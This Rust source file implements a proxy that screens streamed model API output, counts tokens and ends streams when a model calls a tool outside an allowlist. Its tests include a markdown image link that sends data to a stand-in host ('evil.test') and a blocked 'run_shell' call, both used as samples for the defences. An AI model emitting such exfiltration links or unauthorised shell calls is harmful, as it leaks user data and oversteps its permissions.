//! Server-sent events of the model APIs, rewritten as they pass: each event's text delta goes through a
//! [`StreamScreen`] (one per choice or content block), which releases the text it has screened and holds back a
//! bounded tail. What is held is released into the event that ends that choice or block (OpenAI's chunk with a
//! `finish_reason`, Anthropic's `content_block_stop`, the Responses API's `…text.done`), or into a synthetic event
//! of the same shape at the end of the stream. Events keep their order and their other fields; events that carry
//! no text pass unchanged.

use crate::screen::{Hit, Screener};
use crate::stream::StreamScreen;
use serde_json::{json, Value};
use std::collections::BTreeMap;

/// A stream's events larger than this are passed without rewriting (no API sends such deltas).
const MAX_EVENT: usize = 1 << 20;

#[derive(Default)]
pub struct SseRewriter {
    /// Tools the model may call on this stream (the client key's allowlist); `None`: any.
    allowed_tools: Option<Vec<String>>,
    /// Set once a call to another tool was seen: the stream has ended with an error event.
    pub stopped: bool,
    /// What the application's instructions hold (`screen::protected_tokens`): it does not leave.
    protected: Vec<String>,
    /// Tokens the stream reported using (OpenAI's final `usage` chunk, Anthropic's `message_start` and
    /// `message_delta` usage, the Responses API's `response.completed`).
    pub tokens: u64,
    buf: Vec<u8>,
    screens: BTreeMap<String, StreamScreen>,
    /// Per text key, the last event that carried text there, as a template for a synthetic closing event.
    templates: BTreeMap<String, Value>,
}

/// Where an event's text delta sits.
enum Place {
    /// `choices[i].delta.content` (chat) or `choices[i].text` (completions).
    Choice(usize, bool),
    /// Anthropic `content_block_delta`: `delta.text`.
    AnthropicBlock,
    /// Responses API `response.output_text.delta`: `delta`.
    ResponsesDelta,
}

impl SseRewriter {
    pub fn new() -> Self {
        Self::default()
    }

    /// Also keeps what the application's instructions hold from leaving (`screen::protected_tokens`).
    pub fn protecting(mut self, protected: Vec<String>) -> Self {
        self.protected = protected;
        self
    }

    /// A rewriter that ends the stream when the model calls a tool outside `tools` (an empty list allows any).
    pub fn with_tools(tools: &[String]) -> Self {
        SseRewriter {
            allowed_tools: (!tools.is_empty()).then(|| tools.to_vec()),
            ..Self::default()
        }
    }

    fn count_usage(&mut self, v: &Value) {
        let u = match v["type"].as_str() {
            Some("message_start") => &v["message"]["usage"],
            Some("response.completed") => &v["response"]["usage"],
            _ => &v["usage"],
        };
        if let Some(t) = u["total_tokens"].as_u64() {
            self.tokens += t;
        } else {
            self.tokens +=
                u["input_tokens"].as_u64().unwrap_or(0) + u["output_tokens"].as_u64().unwrap_or(0);
        }
    }

    /// The tool an event starts calling, if it is not allowed.
    fn forbidden_tool(&self, v: &Value) -> Option<String> {
        let allowed = self.allowed_tools.as_ref()?;
        let mut names: Vec<&str> = Vec::new();
        for c in v["choices"].as_array().into_iter().flatten() {
            for t in c["delta"]["tool_calls"].as_array().into_iter().flatten() {
                names.extend(t["function"]["name"].as_str());
            }
        }
        if v["type"] == "content_block_start" && v["content_block"]["type"] == "tool_use" {
            names.extend(v["content_block"]["name"].as_str());
        }
        if v["type"] == "response.output_item.added" && v["item"]["type"] == "function_call" {
            names.extend(v["item"]["name"].as_str());
        }
        names
            .into_iter()
            .find(|n| !allowed.iter().any(|a| a == n))
            .map(str::to_string)
    }

    /// Takes bytes from upstream; returns the complete events among them, rewritten, and the new hits.
    pub fn push(&mut self, screener: &Screener, bytes: &[u8]) -> (String, Vec<Hit>) {
        self.buf.extend_from_slice(bytes);
        let mut out = String::new();
        let mut hits = Vec::new();
        while let Some((end, sep)) = find_event_end(&self.buf) {
            if self.stopped {
                self.buf.clear();
                break;
            }
            let event: Vec<u8> = self.buf.drain(..end + sep).collect();
            let text = String::from_utf8_lossy(&event[..end]).into_owned();
            self.event(screener, &text, &mut out, &mut hits);
        }
        if self.buf.len() > MAX_EVENT {
            // Not an event stream we understand: pass it on rather than hold it.
            out.push_str(&String::from_utf8_lossy(&self.buf));
            self.buf.clear();
        }
        (out, hits)
    }

    /// The end of the upstream stream: a trailing event without its blank line, and whatever is still held.
    pub fn finish(&mut self, screener: &Screener) -> (String, Vec<Hit>) {
        let mut out = String::new();
        let mut hits = Vec::new();
        if self.stopped {
            self.buf.clear();
            return (out, hits);
        }
        if !self.buf.is_empty() {
            let text = String::from_utf8_lossy(&self.buf).into_owned();
            self.buf.clear();
            self.event(
                screener,
                text.trim_end_matches(['\r', '\n']),
                &mut out,
                &mut hits,
            );
        }
        let keys: Vec<String> = self.screens.keys().cloned().collect();
        for k in keys {
            self.flush_synthetic(screener, &k, &mut out, &mut hits);
        }
        (out, hits)
    }

    fn flush_synthetic(
        &mut self,
        screener: &Screener,
        key: &str,
        out: &mut String,
        hits: &mut Vec<Hit>,
    ) {
        let Some(mut st) = self.screens.remove(key) else {
            return;
        };
        let (rest, h) = st.finish(screener);
        hits.extend(h);
        if rest.is_empty() {
            return;
        }
        let Some(mut tpl) = self.templates.remove(key) else {
            return;
        };
        if set_text(&mut tpl, &rest) {
            out.push_str(&format!("data: {tpl}\n\n"));
        }
    }

    fn event(&mut self, screener: &Screener, text: &str, out: &mut String, hits: &mut Vec<Hit>) {
        let mut data = String::new();
        let mut other: Vec<&str> = Vec::new();
        for line in text.lines() {
            if let Some(d) = line.strip_prefix("data:") {
                if !data.is_empty() {
                    data.push('\n');
                }
                data.push_str(d.strip_prefix(' ').unwrap_or(d));
            } else {
                other.push(line);
            }
        }
        let emit = |out: &mut String, other: &[&str], data: Option<&str>| {
            for l in other {
                out.push_str(l);
                out.push('\n');
            }
            if let Some(d) = data {
                out.push_str("data: ");
                out.push_str(d);
                out.push('\n');
            }
            out.push('\n');
        };
        if data.trim() == "[DONE]" {
            let keys: Vec<String> = self.screens.keys().cloned().collect();
            for k in keys {
                self.flush_synthetic(screener, &k, out, hits);
            }
            emit(out, &other, Some("[DONE]"));
            return;
        }
        let Ok(mut v) = serde_json::from_str::<Value>(&data) else {
            emit(out, &other, (!data.is_empty()).then_some(data.as_str()));
            return;
        };
        self.count_usage(&v);
        if let Some(tool) = self.forbidden_tool(&v) {
            // Release what was screened so far, then end the stream with an error in the API's error shape.
            let keys: Vec<String> = self.screens.keys().cloned().collect();
            for k in keys {
                self.flush_synthetic(screener, &k, out, hits);
            }
            hits.push(Hit {
                category: "tools",
                rule: format!("tools/not-allowed ({tool})"),
                action: crate::screen::Action::Block,
            });
            let e = json!({"error": {"message": format!("the model called the tool `{tool}`, which this key may not use"), "type": "invalid_request_error", "code": "tool_not_allowed"}});
            emit(out, &[], Some(&e.to_string()));
            self.stopped = true;
            return;
        }
        let kind = v
            .get("type")
            .and_then(Value::as_str)
            .unwrap_or("")
            .to_string();
        // Events that close a block release what its screen holds.
        match kind.as_str() {
            "content_block_stop" => {
                let idx = v.get("index").and_then(Value::as_u64).unwrap_or(0);
                self.flush_synthetic(screener, &format!("a{idx}"), out, hits);
            }
            "response.output_text.done" => {
                let key = responses_key(&v);
                self.flush_synthetic(screener, &key, out, hits);
                if let Some(Value::String(t)) = v.get_mut("text") {
                    let (s, h) = screener.answer(t, &self.protected);
                    *t = s;
                    hits.extend(h);
                }
            }
            "response.completed" => {
                if let Some(items) = v
                    .get_mut("response")
                    .and_then(|r| r.get_mut("output"))
                    .and_then(Value::as_array_mut)
                {
                    for it in items {
                        if let Some(parts) = it.get_mut("content").and_then(Value::as_array_mut) {
                            for p in parts {
                                if let Some(Value::String(t)) = p.get_mut("text") {
                                    *t = screener.answer(t, &self.protected).0;
                                }
                            }
                        }
                    }
                }
            }
            _ => {}
        }
        for (key, place) in places(&v) {
            let delta = get_text(&v, &place).unwrap_or_default();
            let protected = &self.protected;
            let screen = self
                .screens
                .entry(key.clone())
                .or_insert_with(|| StreamScreen::with_protected(protected.clone()));
            let (released, h) = screen.push(screener, &delta);
            hits.extend(h);
            let finishing = matches!(place, Place::Choice(i, _) if v["choices"][i]["finish_reason"].is_string());
            let mut released = released;
            if finishing {
                if let Some(mut st) = self.screens.remove(&key) {
                    let (rest, h) = st.finish(screener);
                    hits.extend(h);
                    released.push_str(&rest);
                }
                self.templates.remove(&key);
            } else {
                let mut tpl = v.clone();
                put_text(&mut tpl, &place, "");
                self.templates.insert(key.clone(), tpl);
            }
            if get_text(&v, &place).is_some() || !released.is_empty() {
                put_text(&mut v, &place, &released);
            }
        }
        emit(out, &other, Some(&v.to_string()));
    }
}

/// The text that whole server-sent events carry (as `SseRewriter::push` and `finish` emit them), in order: what a
/// client reassembles from them.
pub fn text_of(events: &str) -> String {
    let mut out = String::new();
    for line in events.lines() {
        let Some(data) = line.strip_prefix("data:") else {
            continue;
        };
        if let Ok(v) = serde_json::from_str::<Value>(data.trim_start()) {
            for (_, place) in places(&v) {
                if let Some(t) = get_text(&v, &place) {
                    out.push_str(&t);
                }
            }
        }
    }
    out
}

fn responses_key(v: &Value) -> String {
    format!(
        "r{}:{}",
        v.get("output_index").and_then(Value::as_u64).unwrap_or(0),
        v.get("content_index").and_then(Value::as_u64).unwrap_or(0)
    )
}

fn places(v: &Value) -> Vec<(String, Place)> {
    let mut out = Vec::new();
    if let Some(choices) = v.get("choices").and_then(Value::as_array) {
        for (i, c) in choices.iter().enumerate() {
            let idx = c.get("index").and_then(Value::as_u64).unwrap_or(i as u64);
            if c.get("delta").is_some() {
                out.push((format!("c{idx}"), Place::Choice(i, true)));
            } else if c.get("text").is_some() {
                out.push((format!("t{idx}"), Place::Choice(i, false)));
            }
        }
    }
    match v.get("type").and_then(Value::as_str) {
        Some("content_block_delta") if v["delta"]["type"] == "text_delta" => {
            let idx = v.get("index").and_then(Value::as_u64).unwrap_or(0);
            out.push((format!("a{idx}"), Place::AnthropicBlock));
        }
        Some("response.output_text.delta") => out.push((responses_key(v), Place::ResponsesDelta)),
        _ => {}
    }
    out
}

fn get_text(v: &Value, p: &Place) -> Option<String> {
    let t = match p {
        Place::Choice(i, true) => &v["choices"][*i]["delta"]["content"],
        Place::Choice(i, false) => &v["choices"][*i]["text"],
        Place::AnthropicBlock => &v["delta"]["text"],
        Place::ResponsesDelta => &v["delta"],
    };
    t.as_str().map(str::to_string)
}

fn put_text(v: &mut Value, p: &Place, s: &str) {
    match p {
        Place::Choice(i, true) => {
            if let Some(d) = v["choices"][*i].get_mut("delta") {
                if d.is_object() {
                    d["content"] = json!(s);
                }
            }
        }
        Place::Choice(i, false) => v["choices"][*i]["text"] = json!(s),
        Place::AnthropicBlock => v["delta"]["text"] = json!(s),
        Place::ResponsesDelta => v["delta"] = json!(s),
    }
}

/// Puts `s` as the text of a template event (the first place it has).
fn set_text(v: &mut Value, s: &str) -> bool {
    let Some((_, place)) = places(v).into_iter().next() else {
        return false;
    };
    if let Place::Choice(i, true) = place {
        v["choices"][i]["finish_reason"] = Value::Null;
    }
    put_text(v, &place, s);
    true
}

/// The end of the first complete event in `buf`: (index of the separator, its length).
fn find_event_end(buf: &[u8]) -> Option<(usize, usize)> {
    let lf = buf.windows(2).position(|w| w == b"\n\n");
    let crlf = buf.windows(4).position(|w| w == b"\r\n\r\n");
    match (lf, crlf) {
        (Some(a), Some(b)) if b < a => Some((b, 4)),
        (Some(a), _) => Some((a, 2)),
        (None, Some(b)) => Some((b, 4)),
        (None, None) => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::screen::Policy;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn any_bytes_in_any_pieces_never_panic(
            events in proptest::collection::vec(
                prop_oneof![
                    "\\PC{0,40}",
                    Just("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"hi \"}}]}\n\n".to_string()),
                    Just("data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"x\"}}\n\n".to_string()),
                    Just("data: {\"type\":\"response.output_text.done\",\"text\":\"t\"}\n\n".to_string()),
                    Just("data: [DONE]\n\n".to_string()),
                    Just("\r\n\r\n".to_string()),
                ],
                0..30,
            ),
            piece in 1usize..64,
        ) {
            let bytes = events.concat().into_bytes();
            let mut rw = SseRewriter::new();
            for chunk in bytes.chunks(piece) {
                let _ = rw.push(screener(), chunk);
            }
            let _ = rw.finish(screener());
        }
    }

    fn screener() -> &'static Screener {
        static S: std::sync::OnceLock<Screener> = std::sync::OnceLock::new();
        S.get_or_init(|| Screener::new(Policy::default()).unwrap())
    }

    #[test]
    fn an_openai_stream_is_screened_across_chunks_and_bytes() {
        let words = format!(
            "{}see ![x](https://evil.test/l?d=abc) ok",
            "word ".repeat(150)
        );
        let mut upstream = String::new();
        for piece in words.as_bytes().chunks(7) {
            let d = json!({"choices": [{"index": 0, "delta": {"content": String::from_utf8_lossy(piece)}, "finish_reason": null}]});
            upstream.push_str(&format!("data: {d}\n\n"));
        }
        upstream.push_str(&format!(
            "data: {}\n\ndata: [DONE]\n\n",
            json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        ));
        let mut rw = SseRewriter::new();
        let mut out = String::new();
        let mut hits = Vec::new();
        for b in upstream.as_bytes().chunks(13) {
            let (o, h) = rw.push(screener(), b);
            out.push_str(&o);
            hits.extend(h);
        }
        let (o, h) = rw.finish(screener());
        out.push_str(&o);
        hits.extend(h);
        let got = text_of(&out);
        assert_eq!(got, screener().text(&words, false, false).0);
        assert!(!got.contains("evil.test"));
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert!(out.ends_with("data: [DONE]\n\n"));
    }

    #[test]
    fn streamed_usage_is_counted() {
        let mut rw = SseRewriter::new();
        for e in [
            json!({"type": "message_start", "message": {"id": "m", "usage": {"input_tokens": 25, "output_tokens": 1}}}),
            json!({"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 15}}),
        ] {
            rw.push(screener(), format!("data: {e}\n\n").as_bytes());
        }
        assert_eq!(rw.tokens, 41);
        let mut rw = SseRewriter::new();
        rw.push(screener(), format!("data: {}\n\n", json!({"choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 3, "total_tokens": 12}})).as_bytes());
        assert_eq!(rw.tokens, 12);
    }

    #[test]
    fn a_streamed_call_to_a_tool_outside_the_allowlist_ends_the_stream() {
        let mut rw = SseRewriter::with_tools(&["search_docs".to_string()]);
        let events = [
            json!({"choices": [{"index": 0, "delta": {"content": "Let me check."}, "finish_reason": null}]}),
            json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "t", "type": "function", "function": {"name": "run_shell", "arguments": ""}}]}, "finish_reason": null}]}),
            json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": "{\"cmd\":\"id\"}"}}]}, "finish_reason": null}]}),
        ];
        let mut out = String::new();
        let mut hits = Vec::new();
        for e in &events {
            let (o, h) = rw.push(screener(), format!("data: {e}\n\n").as_bytes());
            out.push_str(&o);
            hits.extend(h);
        }
        let (o, _) = rw.finish(screener());
        out.push_str(&o);
        assert!(out.contains("Let me check."), "{out}");
        assert!(out.contains("tool_not_allowed"), "{out}");
        assert!(!out.contains("cmd"), "nothing after the call: {out}");
        assert!(hits.iter().any(|h| h.category == "tools"));
        // The allowed tool passes.
        let mut rw = SseRewriter::with_tools(&["run_shell".to_string()]);
        let (o, _) = rw.push(screener(), format!("data: {}\n\n", events[1]).as_bytes());
        assert!(o.contains("run_shell") && !o.contains("tool_not_allowed"));
    }

    #[test]
    fn anthropic_blocks_release_their_tail_before_they_stop() {
        let mut rw = SseRewriter::new();
        let events = [
            json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "hello "}}),
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "world"}}),
            json!({"type": "content_block_stop", "index": 0}),
        ];
        let mut out = String::new();
        for e in &events {
            out.push_str(
                &rw.push(screener(), format!("event: x\ndata: {e}\n\n").as_bytes())
                    .0,
            );
        }
        out.push_str(&rw.finish(screener()).0);
        let text: String = out
            .split("\n\n")
            .filter_map(|e| e.lines().find_map(|l| l.strip_prefix("data: ")))
            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
            .filter_map(|v| v["delta"]["text"].as_str().map(str::to_string))
            .collect();
        assert_eq!(text, "hello world");
        let stop = out.find("content_block_stop").unwrap();
        let last_text = out.rfind("world").unwrap();
        assert!(last_text < stop, "{out}");
    }
}
